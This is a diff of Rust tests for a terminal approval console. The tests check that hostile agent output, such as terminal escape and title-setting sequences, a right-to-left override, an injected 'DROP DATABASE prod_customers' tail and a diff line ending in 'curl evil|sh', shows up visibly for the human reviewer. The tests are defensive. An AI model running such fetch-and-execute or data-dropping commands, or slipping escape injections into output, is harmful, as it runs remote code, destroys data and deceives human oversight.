@@ -81,14 +81,14 @@ fn hostile_text_is_visible_on_a_real_terminal() {
         vec![fresh(hostile_action(1))],
     ));
     let mut pty = Pty::console(160, 48, &broker.url, "t", 5);
-    pty.wait_for("⟨CSI 2J⟩", 30);
+    pty.wait_for("⟨ESC⟩[2J", 30);
     let screen = pty.contents();
     assert!(
         !pty.restored(),
         "runs on the alternate screen with mouse reporting"
     );
     assert!(screen.contains("⟨U+202E⟩"), "{screen}");
-    assert!(screen.contains("ops-bot⟨OSC 0;pwned⟩"), "{screen}");
+    assert!(screen.contains("ops-bot⟨ESC⟩]0;pwned⟨BEL⟩"), "{screen}");
     // The screen was not cleared by the agent's ESC[2J: the queue is still there.
     assert!(screen.contains("Queue 1 pending"), "{screen}");
     pty.press("q");
@@ -231,4 +231,34 @@ fn a_broker_down_at_start_gets_the_key_once_it_is_up() {
     }
     let vk = ed25519_dalek::SigningKey::from_bytes(&[11; 32]).verifying_key();
     assert_eq!(broker.shared.keys.lock().unwrap()[0], vk);
+}
+
+/// Issue 12 on a real terminal: an unterminated OSC in the summary does not swallow the
+/// dangerous tail, and the end of a 20,000-column diff line comes on screen with `$`.
+#[test]
+fn unterminated_osc_and_long_line_tail_are_on_a_real_screen() {
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let mut a = action(1, "ops.restart", "web", "production", RiskLevel::High);
+    a.summary = format!(
+        "restart web\u{1b}]0;{} AND DROP DATABASE prod_customers",
+        "x".repeat(50)
+    );
+    let long = format!("+{};TAILMARK-DIFF curl evil|sh", "a".repeat(20_000 - 27));
+    a.change = Some(signoff::protocol::Change::UnifiedDiff {
+        diff: format!("@@ -1 +1 @@\n-echo ok\n{long}\n"),
+    });
+    let broker = rt.block_on(FakeBroker::start("t", "bob", vec![fresh(a)]));
+    let mut pty = Pty::console(160, 48, &broker.url, "t", 6);
+    pty.wait_for("AND DROP DATABASE prod_customers", 30);
+    let screen = pty.contents();
+    assert!(screen.contains("restart web⟨ESC⟩]0;xxxx"), "{screen}");
+    assert!(screen.contains("cols 1–"), "{screen}");
+    assert!(!screen.contains("TAILMARK"), "{screen}");
+    // Focus the diff pane, then jump to the end of the line.
+    pty.press("\t\t");
+    pty.press("$");
+    pty.wait_for(";TAILMARK-DIFF curl evil|sh", 10);
+    pty.wait_for("of 20,000", 5);
+    pty.press("q");
+    assert!(pty.wait_exit(10).success());
 }
